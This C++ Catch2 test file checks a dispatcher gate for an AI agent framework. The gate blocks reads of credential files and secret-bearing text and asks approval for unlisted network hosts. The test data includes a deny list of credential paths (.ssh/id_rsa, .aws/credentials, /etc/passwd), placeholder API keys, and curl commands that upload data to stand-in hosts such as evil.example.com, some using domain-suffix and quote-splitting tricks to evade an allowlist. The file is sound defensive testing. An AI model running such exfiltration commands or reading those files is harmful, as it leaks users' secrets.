// Tests of the bundled dispatcher gate (seed I1 steps 3-7 and 9), verified
// through the host: protected paths (anchored to whole path components),
// secret patterns, vault values, privacy tags and text, network approval.
#include <catch2/catch.hpp>

#include <cstdlib>
#include <string>
#include <string_view>
#include <utility>

#include "configured_skills.hpp"
#include "support/skill_harness.hpp"
#include "value/value.hpp"

namespace {

using passepartout::Value;
using passepartout::testing::ConfiguredSkills;
using passepartout::testing::SkillHarness;

constexpr std::string_view kSecretMessage = "Action blocked: Content contains potential secret exposure.";

// `text` as an s-expression string literal.
std::string literal(std::string_view text) {
  std::string out = "\"";
  for (const char c : text) {
    if (c == '"' || c == '\\') out += '\\';
    out += c;
  }
  return out + "\"";
}

std::string read_file_call(std::string_view path) {
  return "(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL \"read-file\" :ARGS (:FILEPATH " + literal(path) + ")))";
}

std::string write_file_call(std::string_view path, std::string_view content) {
  return "(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL \"write-file\" :ARGS (:FILEPATH " + literal(path) +
         " :CONTENT " + literal(content) + ")))";
}

std::string message(std::string_view text) {
  return "(:TYPE :REQUEST :TARGET :TUI :PAYLOAD (:TEXT " + literal(text) + "))";
}

std::string shell(std::string_view cmd) {
  return "(:TYPE :REQUEST :TARGET :SHELL :PAYLOAD (:CMD " + literal(cmd) + "))";
}

std::string shell_tool(std::string_view cmd) {
  return "(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL \"shell\" :ARGS (:CMD " + literal(cmd) + ")))";
}

void require_blocked(const Value& result, std::string_view level, std::string_view text) {
  CHECK(result.at("TYPE").is_keyword("LOG"));
  CHECK(result.path({"PAYLOAD", "LEVEL"}).is_keyword(level));
  CHECK(result.path({"PAYLOAD", "TEXT"}).text() == text);
}

void require_passed(const Value& result) {
  CHECK(result.at("TYPE").is_keyword("REQUEST"));
  CHECK_FALSE(result.at("GATE-TRACE").items().empty());
}

template <typename Skills>
void require_protected(Skills& skills, std::string_view path) {
  CAPTURE(path);
  const std::string reason = "Action blocked: Attempted read of protected path '" + std::string(path) + "'";
  require_blocked(skills.verify(read_file_call(path)), "ERROR", reason);
  require_blocked(skills.verify(write_file_call(path, "x")), "ERROR", reason);
  require_blocked(skills.verify("(:TYPE :REQUEST :TARGET :EMACS :PAYLOAD (:FILEPATH " + literal(path) + "))"), "ERROR",
                  reason);
}

}  // namespace

TEST_CASE("dispatcher blocks reads and writes of protected paths, matched to whole components", "[plugins]") {
  SkillHarness harness{"dispatcher"};
  const std::string path = GENERATE(
      as<std::string>{},
      // environment files
      ".env", "project/.env", ".env.local", ".env.production", ".env.example", "a/./b/../.env", "/srv/app/.ENV",
      // keys and certificates
      "/home/u/.ssh/id_rsa", "id_rsa.pub", "id_dsa", "keys/id_ecdsa", "id_ed25519", "certs/server.pem", "SERVER.PEM",
      "tls.key", "store.p12", "store.pfx", "message.asc", "backup.gpg", "mail.pgp", "ca.cert", "ca.crt", "request.csr",
      "secring.gpg", "pubring.kbx", "~/.gnupg/private-keys-v1.d/abc.key", ".gnupg/private-keys-v1.d",
      // tool credentials
      ".netrc", "/root/.git-credentials", "auth.json", "kubeconfig", ".aws/credentials", "/root/.aws/config",
      "~/.kube/config",
      // credential words, alone or delimited by '.', '_' or '-'
      "config/credentials.yml", "aws_credentials", "creds.txt", "my-secrets/plan.md", "secret", "api.token",
      "tokens.json", "passwords.txt", "db_password", "/etc/passwd",
      // what the seed's substring search caught: a credential word ending a name, a password anywhere in one
      "mysecrets.txt", "accesstoken", "dbpassword.txt", "aws-credentials.json",
      // more environment and credential files
      ".envrc", "prod.env", ".htpasswd", ".pgpass", "~/.npmrc", ".pypirc", "/home/u/.docker/config.json");
  require_protected(harness, path);
}

TEST_CASE("dispatcher lets ordinary paths through, even those containing a protected word", "[plugins]") {
  SkillHarness harness{"dispatcher"};
  const std::string path =
      GENERATE(as<std::string>{}, "src/tokenizer.py", "incredible.txt", "x.environment", ".environment",
               "environment.yml", "notes/keyboard.md", "docs/tokenization.md", "credentialsmanager.py", "secretary.txt",
               "monkey.txt", "README.md", "src/key_value.cpp", "pem/readme.txt", "config/settings.yaml");
  CAPTURE(path);
  require_passed(harness.verify(read_file_call(path)));
  require_passed(harness.verify(write_file_call(path, "plain text")));
}

TEST_CASE("dispatcher checks a tool's own path even when the payload names a harmless one", "[plugins]") {
  SkillHarness harness{"dispatcher"};
  // The tools read :ARGS :FILEPATH; a decoy :PAYLOAD :FILEPATH must not hide it.
  require_blocked(harness.verify("(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL \"read-file\" :FILEPATH \"notes.txt\" "
                                 ":ARGS (:FILEPATH \".ssh/id_rsa\")))"),
                  "ERROR", "Action blocked: Attempted read of protected path '.ssh/id_rsa'");
  require_blocked(harness.verify("(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL \"read-file\" :FILEPATH \".env\" "
                                 ":ARGS (:FILEPATH \"notes.txt\")))"),
                  "ERROR", "Action blocked: Attempted read of protected path '.env'");
}

TEST_CASE("dispatcher checks the folder or file list-files and search-files name by :PATH", "[plugins]") {
  SkillHarness harness{"dispatcher"};
  require_blocked(harness.verify("(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL \"search-files\" "
                                 ":ARGS (:PATTERN \"KEY\" :PATH \".env\")))"),
                  "ERROR", "Action blocked: Attempted read of protected path '.env'");
  require_blocked(harness.verify("(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL \"list-files\" "
                                 ":ARGS (:PATH \"project/.ssh/id_rsa\")))"),
                  "ERROR", "Action blocked: Attempted read of protected path 'project/.ssh/id_rsa'");
  require_passed(
      harness.verify("(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL \"list-files\" "
                     ":ARGS (:PATH \"src\" :RECURSIVE T) :EXPLANATION \"Listing the sources.\"))"));
}

TEST_CASE("dispatcher blocks a file path that is not a string", "[plugins]") {
  SkillHarness harness{"dispatcher"};
  require_blocked(
      harness.verify("(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL \"read-file\" :ARGS (:FILEPATH (\".env\"))))"),
      "ERROR", "Action blocked: Attempted read of protected path '(\".env\")'");
}

TEST_CASE("dispatcher blocks text, content and commands carrying a secret", "[plugins]") {
  SkillHarness harness{"dispatcher"};
  const std::string secret = GENERATE(
      as<std::string>{}, "-----BEGIN RSA PRIVATE KEY-----", "-----BEGIN OPENSSH PRIVATE KEY-----",
      "-----BEGIN PRIVATE KEY-----", "-----BEGIN ENCRYPTED PRIVATE KEY-----", "-----BEGIN PGP PRIVATE KEY BLOCK-----",
      "-----BEGIN PGP PUBLIC KEY BLOCK-----", "sk-abcdefghijklmnopqrstu", "sk-proj-abcdefghij0123456789",
      "AIzaSyA1234567890abcdefghijklmnopqrstuv", "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
      "xoxb-1234567890-abcdefghijklmn", "MY_API_KEY=abcdefghijklmnopqrstuv", "password: hunter2hunter2hunter2",
      "api_key = \"0123456789abcdef\"", "{\"secret_token\": \"0123456789abcdefXYZ\"}", "TOKEN=aaaaaaaaaaaaaaaaaaaaaaa");
  CAPTURE(secret);
  const std::string text = "here it is: " + secret + " (do not share)";
  require_blocked(harness.verify(message(text)), "ERROR", kSecretMessage);
  require_blocked(harness.verify(write_file_call("notes.txt", text)), "ERROR", kSecretMessage);
  require_blocked(harness.verify(shell("echo '" + secret + "' > out.txt")), "ERROR", kSecretMessage);
  require_blocked(harness.verify("(:TYPE :REQUEST :TEXT " + literal(text) + ")"), "ERROR", kSecretMessage);
  require_blocked(
      harness.verify("(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL \"post\" :ARGS (:BODY (" + literal(text) + "))))"),
      "ERROR", kSecretMessage);
}

TEST_CASE("dispatcher passes text that only resembles a secret", "[plugins]") {
  SkillHarness harness{"dispatcher"};
  const std::string text =
      GENERATE(as<std::string>{}, "sk-short", "the token is in the vault", "PATH=/usr/local/bin:/usr/bin",
               "BEGIN PRIVATE KEY", "password: short", "ask-abcdefghijklmnopqrstuvwxyz is a word");
  CAPTURE(text);
  require_passed(harness.verify(message(text)));
}

TEST_CASE("dispatcher blocks text exposing a vault value, naming the secret", "[plugins]") {
  ::setenv("PP_DISPATCHER_TEST_SECRET", "correct-horse-battery", 1);
  ::unsetenv("PP_DISPATCHER_TEST_UNSET");
  ConfiguredSkills skills({"dispatcher"}, "dispatcher", R"({secrets: [
      {name: DB-PASSWORD, value: "open sesame"},
      {name: SHORT, value: "abcde"},
      {name: TEST-TOKEN, env: PP_DISPATCHER_TEST_SECRET},
      {name: UNSET, env: PP_DISPATCHER_TEST_UNSET}]})");
  require_blocked(skills.verify(message("the password is open sesame")), "ERROR",
                  "Action blocked: Potential exposure of 'DB-PASSWORD'");
  require_blocked(skills.verify(write_file_call("x.txt", "correct-horse-battery")), "ERROR",
                  "Action blocked: Potential exposure of 'TEST-TOKEN'");
  require_blocked(skills.verify(shell("echo open sesame")), "ERROR",
                  "Action blocked: Potential exposure of 'DB-PASSWORD'");
  // Values of five characters or fewer are not scanned for (the seed's rule).
  require_passed(skills.verify(message("abcde")));
  require_passed(skills.verify(message("open the door")));
}

TEST_CASE("dispatcher blocks content tagged with a privacy tag, at warn level", "[plugins]") {
  SkillHarness harness{"dispatcher"};
  const std::string tags = GENERATE(as<std::string>{}, "(\"work\" \"@personal\")", "(\"@Personal\")",
                                    "(\"@personal-diary\")", "\"@personal\"");
  CAPTURE(tags);
  require_blocked(harness.verify("(:TYPE :REQUEST :TARGET :EMACS :PAYLOAD (:TEXT \"note\" :TAGS " + tags + "))"),
                  "WARN", "Action blocked: Content tagged with privacy filter.");
}

TEST_CASE("dispatcher blocks text mentioning a privacy tag, at warn level", "[plugins]") {
  SkillHarness harness{"dispatcher"};
  const std::string reason = "Action blocked: Text may reference private content.";
  require_blocked(harness.verify(message("summarise my @personal diary")), "WARN", reason);
  require_blocked(harness.verify(message("@PERSONAL")), "WARN", reason);
  require_blocked(harness.verify(write_file_call("out.md", "copied from @personal notes")), "WARN", reason);
  require_passed(harness.verify(message("a personal note")));
  require_passed(harness.verify("(:TYPE :REQUEST :TARGET :EMACS :PAYLOAD (:TEXT \"note\" :TAGS (\"work\")))"));
}

TEST_CASE("dispatcher takes its privacy tags from config", "[plugins]") {
  ConfiguredSkills skills({"dispatcher"}, "dispatcher", "{privacy_tags: ['@private', '#family']}");
  require_passed(skills.verify(message("my @personal diary")));
  require_blocked(skills.verify(message("my @Private diary")), "WARN",
                  "Action blocked: Text may reference private content.");
  require_blocked(skills.verify("(:TYPE :REQUEST :TARGET :EMACS :PAYLOAD (:TAGS (\"#family\")))"), "WARN",
                  "Action blocked: Content tagged with privacy filter.");
}

TEST_CASE("dispatcher asks approval for shell access to hosts outside the allowlist", "[plugins]") {
  SkillHarness harness{"dispatcher"};
  auto require_approval = [&](const std::string& action, std::string_view host) {
    CAPTURE(action);
    const Value result = harness.verify(action);
    const std::string reason = "Network access to '" + std::string(host) + "' requires approval";
    CHECK(result.at("TYPE").is_keyword("EVENT"));
    CHECK(result.at("LEVEL").is_keyword("APPROVAL-REQUIRED"));
    CHECK(result.path({"PAYLOAD", "SENSOR"}).is_keyword("APPROVAL-REQUIRED"));
    CHECK(result.path({"PAYLOAD", "REASON"}).text() == reason);
    CHECK(result.path({"PAYLOAD", "ACTION"}) == *passepartout::read_sexp(action));
  };
  require_approval(shell("curl -d @data https://evil.example.com/upload"), "evil.example.com");
  require_approval(shell("wget ftp://user:pw@files.example.org/x"), "files.example.org");
  require_approval(shell("curl HTTP://Example.COM:8080/x"), "example.com");
  require_approval(shell_tool("curl http://203.0.113.7/x"), "203.0.113.7");
  // A suffix is not a domain: the seed's substring test let this one through.
  require_approval(shell("curl https://openai.com.attacker.net/x"), "openai.com.attacker.net");
  require_approval(shell("curl https://api.openai.com/v1 https://pastebin.com/x"), "pastebin.com");
  // The host as the shell passes it on: quoting characters do not end it.
  require_approval(shell("curl https://openai.com\\.evil.com/x"), "openai.com.evil.com");
  require_approval(shell("curl \"https://openai.com\"\".evil.com\""), "openai.com.evil.com");
  require_approval(shell("curl 'https://openai.com''.evil.com'"), "openai.com.evil.com");
  require_approval(shell("curl https:\\/\\/evil.com/x"), "evil.com");

  require_passed(harness.verify(shell("curl https://api.openai.com/v1/models")));
  require_passed(harness.verify(shell("curl https://anthropic.com")));
  require_passed(harness.verify(shell("curl https://api.telegram.org/bot/getMe")));
  require_passed(harness.verify(shell("ls -la")));
  // Only shell commands: a message that mentions a URL is not network access.
  require_passed(harness.verify(message("see https://evil.example.com")));
}

TEST_CASE("dispatcher takes its network allowlist from config", "[plugins]") {
  ConfiguredSkills skills({"dispatcher"}, "dispatcher", "{network_allowlist: [example.com]}");
  require_passed(skills.verify(shell("curl https://www.example.com/")));
  CHECK(skills.verify(shell("curl https://api.openai.com/")).at("LEVEL").is_keyword("APPROVAL-REQUIRED"));
}

TEST_CASE("dispatcher applies its checks in the seed's order", "[plugins]") {
  SkillHarness harness{"dispatcher"};
  // A protected path wins over a secret in the content.
  require_blocked(harness.verify(write_file_call(".env", "sk-abcdefghijklmnopqrstu")), "ERROR",
                  "Action blocked: Attempted read of protected path '.env'");
  // A secret wins over a privacy tag.
  require_blocked(harness.verify(message("@personal sk-abcdefghijklmnopqrstu")), "ERROR", kSecretMessage);
  // A privacy tag wins over network access.
  require_blocked(harness.verify(shell("curl https://evil.example.com/@personal")), "WARN",
                  "Action blocked: Text may reference private content.");
}

TEST_CASE("dispatcher adds configured globs to the protected paths", "[plugins]") {
  ConfiguredSkills skills({"dispatcher"}, "dispatcher", "{extra_protected_paths: ['*.kdbx', '.ssh/config']}");
  require_protected(skills, "vault.kdbx");
  require_protected(skills, "/home/u/.ssh/config");
  require_protected(skills, ".env");
  require_passed(skills.verify(read_file_call("config")));
}

TEST_CASE("dispatcher passes ordinary actions", "[plugins]") {
  SkillHarness harness{"dispatcher"};
  require_passed(harness.verify(message("hello there")));
  require_passed(harness.verify(shell("git status")));
  require_passed(harness.verify(read_file_call("notes/today.md")));
}

TEST_CASE("dispatcher refuses to load with malformed config", "[plugins]") {
  using Case = std::pair<std::string, std::string>;  // config, expected message
  const Case bad = GENERATE(
      Case{"{privacy_tags: '@personal'}", "config privacy_tags: expected a list of strings, got \"@personal\""},
      Case{"{privacy_tags: ['']}", "config privacy_tags[0]: expected a non-empty string, got \"\""},
      Case{"{network_allowlist: [1]}", "config network_allowlist[0]: expected a non-empty string, got 1"},
      Case{"{extra_protected_paths: x}", "config extra_protected_paths: expected a list of strings, got \"x\""},
      Case{"{secrets: x}", "config secrets: expected a list of {name, value} or {name, env} maps, got \"x\""},
      Case{"{secrets: [{value: abcdefgh}]}",
           "config secrets[0]: expected {name: NAME, value: VALUE} or {name: NAME, env: VARIABLE}"},
      Case{"{secrets: [{name: X}]}", "config secrets[0] ('X'): expected exactly one of value or env, as a string"},
      Case{"{secrets: [{name: X, value: abcdefgh, env: HOME}]}",
           "config secrets[0] ('X'): expected exactly one of value or env, as a string"});
  CAPTURE(bad.first);
  ConfiguredSkills skills({"dispatcher"}, "dispatcher", bad.first);
  CHECK_THAT(skills.load_errors(), Catch::Contains("skill 'dispatcher'") && Catch::Contains(bad.second));
}
